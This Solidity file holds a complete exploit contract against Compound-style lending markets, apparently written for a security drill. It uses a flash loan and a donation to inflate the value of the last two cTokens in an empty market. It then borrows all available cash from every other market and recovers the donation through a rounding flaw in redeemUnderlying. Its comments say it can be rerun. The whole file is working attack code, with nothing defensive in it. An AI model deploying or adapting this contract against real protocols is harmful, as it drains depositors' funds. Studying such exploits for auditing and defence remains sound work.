// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
}

interface IMarket {
    function underlying() external view returns (address);
    function totalSupply() external view returns (uint256);
    function balanceOf(address) external view returns (uint256);
    function getCash() external view returns (uint256);
    function mint(uint256) external returns (uint256);
    function redeem(uint256) external returns (uint256);
    function redeemUnderlying(uint256) external returns (uint256);
    function borrow(uint256) external returns (uint256);
}

interface IComptroller {
    function getAllMarkets() external view returns (address[] memory);
    function enterMarkets(address[] calldata) external returns (uint256[] memory);
}

interface ILender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

/// @notice The drill's attacker. Two units of an empty market's cToken, inflated by a donation, back loans in every other
/// market; the donation comes back because redeemUnderlying rounds the cTokens that it burns down to one.
/// It can be run again: the unit that stays behind is topped up to two, and the next donation carries the old debt too.
contract DonationAttack {
    ILender private immutable lender;
    IComptroller private immutable comptroller;
    IMarket private immutable market;

    constructor(ILender lender_, IComptroller comptroller_, IMarket market_) {
        lender = lender_;
        comptroller = comptroller_;
        market = market_;
    }

    function attack(address[] calldata assets, uint256[] calldata amounts, uint256 donation) external {
        lender.flashLoan(address(this), market.underlying(), donation, abi.encode(assets, amounts));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256, bytes calldata data) external returns (bytes32) {
        require(msg.sender == address(lender), "attack: lender only");
        (address[] memory assets, uint256[] memory amounts) = abi.decode(data, (address[], uint256[]));
        IToken(token).approve(address(market), type(uint256).max);
        if (market.totalSupply() == 0) {
            require(market.mint(amount / 1000) == 0, "attack: mint");
            require(market.redeem(market.balanceOf(address(this)) - 2) == 0, "attack: redeem");
        } else {
            require(market.mint(1) == 0, "attack: top up");
        }
        require(market.totalSupply() == 2 && market.balanceOf(address(this)) == 2, "attack: not alone");
        IToken(token).transfer(address(market), IToken(token).balanceOf(address(this)));
        address[] memory entered = new address[](1);
        entered[0] = address(market);
        comptroller.enterMarkets(entered);
        for (uint256 i = 0; i < assets.length; i++) drain(assets[i], amounts[i]);
        require(market.redeemUnderlying(market.getCash() - 1) == 0, "attack: donation stuck");
        IToken(token).approve(address(lender), amount);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// A market that refuses is left alone, and the next one tried.
    function drain(address asset, uint256 amount) private {
        address[] memory markets = comptroller.getAllMarkets();
        for (uint256 i = 0; i < markets.length; i++) {
            IMarket other = IMarket(markets[i]);
            if (other.underlying() != asset || address(other) == address(market)) continue;
            uint256 cash = other.getCash();
            try other.borrow(amount < cash ? amount : cash) returns (uint256) {} catch {}
        }
    }
}
